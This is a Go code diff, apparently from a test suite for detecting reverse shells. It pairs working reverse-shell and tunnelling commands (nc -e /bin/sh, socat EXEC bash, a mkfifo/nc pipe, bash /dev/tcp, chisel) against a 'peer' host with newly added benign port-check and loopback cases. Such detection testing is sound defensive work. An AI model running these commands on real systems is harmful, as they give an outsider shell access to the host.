@@ -15,6 +15,8 @@ func init() {
 		"nc-reverse-shell":    {run: named("nc", "-e", "/bin/sh", peer, "4444")},
 		"socat-reverse-shell": {run: named("socat", "TCP:"+peer+":4444", "EXEC:'bash -li',pty,stderr")},
 		"fifo-reverse-shell":  {run: named("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc "+peer+" 4444 > /tmp/f")},
+		"port-check-for-real": {run: portCheck, isolated: true},
+		"loopback-dialogue":   {run: loopbackDialogue},
 		"port-check":          {run: named("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; echo hello >&3")},
 		"grep-reverse-shell":  {run: named("grep", "-r", "bash -i >& /dev/tcp/", "/var/log")},
 		"tunnel-tool":         {run: named("chisel", "client", peer+":443", "R:socks")},
@@ -30,7 +32,31 @@ func reverseShell() error {
 		return err
 	}
 	defer l.Close()
-	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3").Run()
+	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3 1>&3").Run()
+}
+
+// portCheck asks whether somebody listens, as scripts do that wait for a service.
+func portCheck() error {
+	l, err := listen()
+	if err != nil {
+		return err
+	}
+	defer l.Close()
+	return exec.Command("bash", "-c", "(echo > /dev/tcp/"+peer+"/4444) && : < /dev/tcp/"+peer+"/4444").Run()
+}
+
+// loopbackDialogue speaks to a service of the same host, as health checks do.
+func loopbackDialogue() error {
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		return err
+	}
+	defer l.Close()
+	_, port, err := net.SplitHostPort(l.Addr().String())
+	if err != nil {
+		return err
+	}
+	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+port+"; echo hello >&3 2>&3").Run()
 }
 
 // socketShell starts a shell with a connection in the place of its terminal.
